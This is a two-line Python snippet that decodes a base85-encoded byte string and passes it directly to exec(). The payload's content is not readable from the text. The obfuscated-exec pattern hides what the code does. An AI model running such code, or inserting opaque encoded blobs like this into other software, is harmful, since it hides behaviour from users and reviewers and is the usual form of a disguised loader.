import base64
exec(base64.b85decode(b'X>D+Ca&#bXa|&;BE^~QvbY*QQCu4PTY#=RjQ%oRebaZfYIxjD0WpplKV{K(FWMy_Qa&>Mlb7&xZAaiIZDGC'))
